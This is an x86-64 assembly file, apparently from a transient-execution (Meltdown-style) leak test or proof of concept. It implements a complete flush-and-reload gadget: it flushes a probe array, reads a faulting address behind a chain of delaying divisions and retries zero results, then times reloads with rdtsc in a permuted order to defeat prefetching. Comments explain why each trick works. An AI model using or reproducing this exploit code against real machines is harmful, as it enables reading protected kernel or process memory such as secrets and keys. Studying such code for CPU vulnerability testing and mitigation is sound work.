/* SPDX-License-Identifier: GPL-2.0-only */
/* Flush and reload for ring 3; see leak_gadget.h. */
#include "leak_gadget.h"

	.section .rodata
	.globl leak_code, leak_code_end, leak_flush, leak_read, leak_reload
	.balign 4096
leak_code:

leak_flush:
	mov	$LEAK_LINES, %ecx
1:	clflush	(%rdi)
	add	$4096, %rdi
	dec	%ecx
	jnz	1b
	mfence
	ret

/*
 * The fault comes when the first load retires; a chain of slow divisions before
 * it, which nothing needs, gives the second one time. A zero is tried again, as
 * it is what CPUs give that do not leak.
 */
	.balign	64
leak_read:
	mov	$8, %ecx
	mov	$12345, %eax
	mov	$3, %r8d
1:	xor	%edx, %edx
	div	%r8d
	or	$12345, %eax
	dec	%ecx
	jnz	1b
	mov	$16, %ecx
2:	movzbl	(%rdi), %eax
	shl	$12, %rax
	jnz	3f
	dec	%ecx
	jnz	2b
3:	mov	(%rsi, %rax), %rbx
	lfence
	ret

/* Out of order, so that no prefetcher follows. */
	.balign	64
leak_reload:
	push	%rbx
	xor	%r8d, %r8d
1:	imul	$167, %r8d, %r9d
	add	$13, %r9d
	movzbl	%r9b, %r9d
	mov	%r9d, %r10d
	shl	$12, %r10
	mfence
	lfence
	rdtsc
	lfence
	mov	%eax, %r11d
	mov	(%rdi, %r10), %rbx
	lfence
	rdtsc
	sub	%r11d, %eax
	mov	%eax, (%rsi, %r9, 4)
	inc	%r8d
	cmp	$LEAK_LINES, %r8d
	jb	1b
	pop	%rbx
	ret
leak_code_end:

	.section .note.GNU-stack, "", @progbits
